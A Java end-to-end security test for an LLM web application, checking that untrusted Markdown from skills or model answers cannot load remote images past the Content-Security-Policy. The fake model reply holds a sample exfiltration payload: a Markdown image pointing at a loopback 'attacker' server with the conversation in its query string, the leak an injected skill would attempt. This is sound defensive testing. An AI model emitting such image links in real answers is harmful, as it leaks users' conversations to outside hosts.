package dev.llmos.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import com.sun.net.httpserver.HttpServer;

import dev.llmos.LlmosApplication;
import dev.llmos.llm.FakeAnthropicServer;
import dev.llmos.llm.FakeReply;

/**
 * Untrusted Markdown in a real browser ({@code web/e2e/security.mjs}, Debian's Chromium): a skill and a
 * model answer carrying a remote image (the exfiltration an injected skill would try) are shown as links,
 * an image or fetch slipped into the page anyway is blocked by the Content-Security-Policy, the editor and
 * Swagger UI at /docs still work under it, and the UI refuses to be framed. The "attacker" is a server on
 * loopback that must never see a request. Skipped (not failed) without a built UI or chromium.
 */
@SpringBootTest(classes = LlmosApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class WebUiSecurityEndToEndTests {

    static final FakeAnthropicServer ANTHROPIC = FakeAnthropicServer.start();
    static final Path VOLUMES = TempVolumes.create("llmos-e2e-security-");

    @DynamicPropertySource
    static void settings(DynamicPropertyRegistry registry) {
        ServerSettings.withFakeAnthropic(registry, VOLUMES, ANTHROPIC);
    }

    @LocalServerPort
    int port;

    @Test
    void remoteImagesNeverLoadAndTheUiKeepsToItsOwnOrigin() throws Exception {
        List<String> seen = new CopyOnWriteArrayList<>();
        HttpServer attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext("/", exchange -> {
            seen.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        attacker.start();
        try {
            String url = "http://127.0.0.1:" + attacker.getAddress().getPort();
            ANTHROPIC.reset();
            ANTHROPIC.enqueue(FakeReply.text("Here is your chart: ![the chart](" + url + "/answer-image?d=the%20conversation) done."));
            BrowserScript.run("security.mjs", port, Map.of("ATTACKER_URL", url));
        } finally {
            attacker.stop(0);
        }
        assertThat(seen).as("requests that reached the attacker").isEmpty();
    }
}
